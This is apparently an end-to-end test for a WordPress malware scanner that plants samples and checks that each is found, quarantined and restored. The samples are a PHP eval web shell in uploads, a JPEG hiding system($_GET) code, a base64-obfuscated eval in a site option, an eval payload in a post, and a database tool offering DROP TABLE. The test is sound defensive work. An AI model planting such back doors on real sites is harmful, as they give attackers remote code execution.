using Colophon.TestSupport;
using Microsoft.Playwright;

namespace Colophon.EndToEnd.Tests;

/// <summary>A real WordPress with a web shell in its uploads, PHP hidden in a picture, in an option and in a post: each is found, explained, put into quarantine and given back; tools that merely have no place there are told apart; nothing clean is found.</summary>
[Trait("Category", "Real")]
public sealed class IntegrityTests : IAsyncLifetime
{
    private const string Tenant = "fernhill";
    private const string Shell = "<?php\n// cache\nif (isset($_REQUEST['c'])) { @eval($_REQUEST['c']); }\n";
    private const string DatabaseTool = """
        <?php
        session_start();
        if (isset($_POST['host'])) { $_SESSION['to'] = [$_POST['host'], $_POST['user'], $_POST['password'], $_POST['database']]; }
        if (!isset($_SESSION['to'])) {
            echo '<form method="post">Host <input name="host"> User <input name="user"> Password <input type="password" name="password"> Database <input name="database"> <input type="submit" value="Connect"></form>';
            exit;
        }
        $link = mysqli_connect(...$_SESSION['to']);
        $acts = ['SHOW DATABASES', 'SHOW TABLES', 'SHOW PROCESSLIST', 'SHOW VARIABLES', 'SHOW COLUMNS FROM', 'SHOW INDEX FROM', 'SHOW CREATE TABLE', 'CREATE DATABASE', 'TRUNCATE', 'DROP TABLE'];
        if (isset($acts[$_POST['act'] ?? -1])) {
            $result = mysqli_query($link, rtrim($acts[$_POST['act']] . ' ' . preg_replace('/\W/', '', $_POST['name'] ?? '')));
            if ($result instanceof mysqli_result) { foreach ($result as $row) { echo '<pre>', htmlspecialchars(print_r($row, true)), '</pre>'; } }
        }
        echo '<form method="post"><select name="act">';
        foreach ($acts as $n => $act) { echo "<option value=\"$n\">$act"; }
        echo '</select> <input name="name"> <input type="submit" value="Run"></form>';

        """;

    private static readonly string Pictures = Path.Combine(Repository.Root, "artifacts", "screenshots");
    private static readonly TimeSpan HangLimit = TimeSpan.FromMinutes(6);
    private readonly string _data = Directory.CreateTempSubdirectory("colophon-e2e-").FullName;
    private RunningServer _server = default!;
    private WordPressSite _wordpress = default!;
    private Chromium _browser = default!;
    private IPage _owner = default!;
    private string _site = "";

    public async ValueTask InitializeAsync()
    {
        _server = await RunningServer.StartAsync(Repository.Server, _data, CancellationToken.None, ["--Fleet:HeartbeatSeconds=20", "--Scanning:LookEverySeconds=1"]);
        _browser = await Chromium.StartAsync(_server.Address);
        await _server.AskAsync("/local/tenants", new { tenant = Tenant, name = "Fernhill Learning" });
        _owner = await _browser.PageAsync();
        await Story.JoinAsync(_owner, (await _server.AskAsync("/local/sign-in-links", new { tenant = Tenant, email = "ines@fernhill.example", name = "Ines Okafor", role = "owner" }))["url"]!.GetValue<string>());
        _wordpress = WordPressSite.Start(22090);
        var invited = await _server.AskAsync("/local/sites", new { tenant = Tenant, url = _wordpress.Url, environment = "production" });
        _site = invited["site"]!.GetValue<string>();
        var (code, _, error) = _wordpress.Enrol(_server.Address.ToString().TrimEnd('/'), invited["token"]!.GetValue<string>());
        Assert.True(code == 0, error);
    }

    public async ValueTask DisposeAsync()
    {
        _wordpress?.Dispose();
        await _browser.DisposeAsync();
        await _server.DisposeAsync();
        Directory.Delete(_data, recursive: true);
    }

    [Fact]
    public async Task Hidden_code_is_found_explained_quarantined_and_given_back_unwanted_tools_are_told_apart_and_nothing_clean_is_found()
    {
        await LookAsync("integrity-none");
        await SaysAsync("None was found"); // a WordPress as its publisher gives it out
        await Assertions.Expect(_owner.Locator("#findings")).ToBeVisibleAsync();
        Assert.DoesNotContain("notice--bad", await _owner.InnerHTMLAsync("main"), StringComparison.Ordinal);

        _wordpress.Write("wp-content/uploads/2026/11/cache.php", Shell);
        _wordpress.Write("wp-content/uploads/2026/11/info.php", "<?php phpinfo();\n");
        _wordpress.Write("wp-content/uploads/2026/11/tables.php", DatabaseTool);
        _wordpress.Write("wp-content/uploads/2026/11/index.php", "<?php\n// Silence is golden.\n");
        WriteBytes("wp-content/uploads/2026/11/holiday.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, .. new byte[300], .. "<?php system($_GET['x']); ?>"u8, 0xFF, 0xD9]);
        WriteBytes("wp-content/uploads/2026/11/clean.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, .. new byte[4000], 0xFF, 0xD9]);
        _wordpress.Php($$"""
            update_option('theme_cache_data', "eval(base64_decode('{{Convert.ToBase64String("eval($_POST['k']);"u8)}}'));");
            wp_insert_post(['post_title' => 'Notes', 'post_status' => 'publish', 'post_content' => 'How we write: use &lt;?php and then eval( carefully.']);
            global $wpdb; $wpdb->insert($wpdb->posts, ['post_title' => 'Offers', 'post_status' => 'publish', 'post_type' => 'post', 'post_content' => "<p>Offers</p><?php @eval(\$_REQUEST['o']); ?>", 'post_excerpt' => '', 'to_ping' => '', 'pinged' => '', 'post_content_filtered' => '']);
            """);
        await ScanAsync();
        await SaysAsync("4 places are to be dealt with");
        var text = await _owner.InnerTextAsync("main");
        foreach (var expected in (string[])["wp-content/uploads/2026/11/cache.php", "wp-content/uploads/2026/11/holiday.jpg", "setting theme_cache_data", "Code of an attacker: post ", "is run as PHP", "Uploads are pictures and documents", "@eval($_REQUEST['c'])"]) { Assert.Contains(expected, text, StringComparison.Ordinal); }
        foreach (var clean in (string[])["index.php", "clean.jpg", "Notes"]) { Assert.DoesNotContain(clean, text, StringComparison.Ordinal); }
        await LookAsync("integrity");

        var before = Sha256("wp-content/uploads/2026/11/cache.php");
        for (var left = 4; left > 0; left--)
        {
            await _owner.Locator("article.notice--bad details:has-text(\"Put it into quarantine\") summary").First.ClickAsync();
            await _owner.Locator("article.notice--bad details[open] input[name=reason]").First.FillAsync("It is a back door.");
            await _owner.Locator("article.notice--bad details[open] button:has-text(\"Put it into quarantine\")").First.ClickAsync();
            await Assertions.Expect(_owner.Locator("article.notice--bad details:has-text(\"Put it into quarantine\")")).ToHaveCountAsync(left - 1); // ordered, or done already
        }
        await DecideAboutToolsAsync();
        await SaysAsync("Not any more: 5 items are in quarantine");
        Assert.False(File.Exists(Path.Combine(_wordpress.Root, "wp-content/uploads/2026/11/cache.php")));
        Assert.DoesNotContain("<?php", _wordpress.Sql("SELECT post_content FROM wp_posts WHERE post_title = 'Offers'"), StringComparison.Ordinal);
        Assert.Equal("", _wordpress.Sql("SELECT option_value FROM wp_options WHERE option_name = 'theme_cache_data'").Trim());
        await LookAsync("integrity-quarantine");

        await Assertions.Expect(_owner.Locator("button:has-text(\"Give it back\")")).ToHaveCountAsync(0); // who took it away can't
        var other = await _browser.PageAsync();
        await Story.JoinAsync(other, (await _server.AskAsync("/local/sign-in-links", new { tenant = Tenant, email = "henk@fernhill.example", name = "Henk Vos", role = "approver" }))["url"]!.GetValue<string>());
        await other.GotoAsync($"/t/{Tenant}/sites/{_site}/integrity");
        var held = other.Locator("tr:has-text(\"cache.php\")");
        await held.Locator("summary").ClickAsync();
        await held.Locator("input[name=reason]").FillAsync("Needed by the investigators.");
        await held.Locator("button").ClickAsync();
        await SaysAsync("1 place is to be dealt with", "4 items in quarantine");
        Assert.Equal(before, Sha256("wp-content/uploads/2026/11/cache.php"));
        // Each act is a record: what was found, who ordered it, and that the site did it.
        foreach (var (type, count) in ((string, int)[])[("malware.found", 6), ("malware.accepted", 1), ("quarantine.ordered", 5), ("quarantine.begun", 5), ("quarantine.completed", 5), ("restore.ordered", 1), ("restore.begun", 1), ("restore.completed", 1)])
        {
            var seen = 0;
            using var limit = new CancellationTokenSource(HangLimit);
            for (; seen < count && !limit.IsCancellationRequested; seen = await _owner.Locator("li.ev").CountAsync()) { await _owner.GotoAsync($"/t/{Tenant}/events?type={type}"); } // the index may be behind the ledger
            Assert.Equal((type, count), (type, seen));
        }
    }

    /// <summary>What attacks nothing by itself: calmly told, and without a pointer one is approved until a day, the other put away.</summary>
    private async Task DecideAboutToolsAsync()
    {
        await SaysAsync("None was found, and 2 files have no place on a site.", "4 items in quarantine");
        Assert.DoesNotContain("notice--bad", await _owner.InnerHTMLAsync("main"), StringComparison.Ordinal);
        await LookAsync("integrity-unwanted");
        await LookAsync("integrity-unwanted-open", "section[aria-labelledby=findings] details");

        const string Info = "article.notice--wait:has-text(\"info.php\")", Tables = "article.notice--wait:has-text(\"tables.php\")";
        await KeyboardTests.TabToAsync(_owner, $"{Info} summary:has-text(\"Approve it as an exception\")");
        await _owner.Keyboard.PressAsync("Enter");
        await KeyboardTests.TabToAsync(_owner, $"{Info} form[action$=accept] input[name=reason]");
        await _owner.Keyboard.TypeAsync("Our monitoring reads it; the web server asks for a password.");
        await KeyboardTests.TabToAsync(_owner, $"{Info} button:has-text(\"Record the exception\")");
        await _owner.Keyboard.PressAsync("Enter");
        await Assertions.Expect(_owner.Locator("section[aria-labelledby=settled]")).ToContainTextAsync("approved as an exception until ");
        await Assertions.Expect(_owner.Locator("section[aria-labelledby=settled]")).ToContainTextAsync("for Ines Okafor to look at again");

        await KeyboardTests.TabToAsync(_owner, $"{Tables} summary:has-text(\"Put it into quarantine\")");
        await _owner.Keyboard.PressAsync("Enter");
        await KeyboardTests.TabToAsync(_owner, $"{Tables} form[action$=quarantine] input[name=reason]");
        await _owner.Keyboard.TypeAsync("Left from the move; nobody needs it.");
        await _owner.Keyboard.PressAsync("Enter");
        await Assertions.Expect(_owner.Locator($"{Tables} summary:has-text(\"Put it into quarantine\")")).ToHaveCountAsync(0);
    }

    private string Sha256(string below) => _wordpress.As("sha256sum", Path.Combine(_wordpress.Root, below))[..64];

    private void WriteBytes(string below, byte[] content)
    {
        var staged = Path.Combine(_wordpress.Folder, "tmp", "staged");
        File.WriteAllBytes(staged, content);
        File.SetUnixFileMode(staged, (UnixFileMode)0b110_100_100);
        _wordpress.As("mkdir", "-p", Path.GetDirectoryName(Path.Combine(_wordpress.Root, below))!);
        _wordpress.As("cp", staged, Path.Combine(_wordpress.Root, below));
        File.Delete(staged);
    }

    private async Task ScanAsync()
    {
        await _owner.GotoAsync($"/t/{Tenant}/sites/{_site}/integrity");
        await _owner.ClickAsync("text=Ask the site for a scan now");
    }

    /// <summary>The site's cron runs until the page says all of this.</summary>
    private async Task SaysAsync(params string[] expected)
    {
        using var limit = new CancellationTokenSource(HangLimit);
        var text = "";
        while (!expected.All(e => text.Contains(e, StringComparison.Ordinal)))
        {
            if (limit.IsCancellationRequested) { Assert.Fail($"The page never said “{string.Join("”, “", expected)}” but:\n{text}\n{_server.Output}"); }
            _wordpress.Tick();
            await Task.Delay(700, TestContext.Current.CancellationToken);
            await _owner.GotoAsync($"/t/{Tenant}/sites/{_site}/integrity");
            text = await _owner.InnerTextAsync("main");
        }
    }

    /// <param name="open">What is unfolded first.</param>
    private async Task LookAsync(string name, string? open = null)
    {
        var page = await _owner.Context.NewPageAsync();
        foreach (var (theme, width) in (IEnumerable<(ColorScheme, int)>)[(ColorScheme.Light, 1440), (ColorScheme.Dark, 1440), (ColorScheme.Light, 360)])
        {
            await page.EmulateMediaAsync(new() { ColorScheme = theme });
            await page.SetViewportSizeAsync(width, 1000);
            await page.GotoAsync($"/t/{Tenant}/sites/{_site}/integrity");
            if (open is not null) { await page.Locator(open).EvaluateAllAsync<object>("all => all.forEach(d => d.open = true)"); }
            await Axe.CheckAsync(page);
            Assert.Equal(width, await page.EvaluateAsync<int>("document.documentElement.scrollWidth"));
            Directory.CreateDirectory(Pictures);
            await page.ScreenshotAsync(new() { Path = Path.Combine(Pictures, $"{name}-{(theme == ColorScheme.Dark ? "dark" : "light")}-{width}.png"), FullPage = true });
        }
        await page.CloseAsync();
    }
}
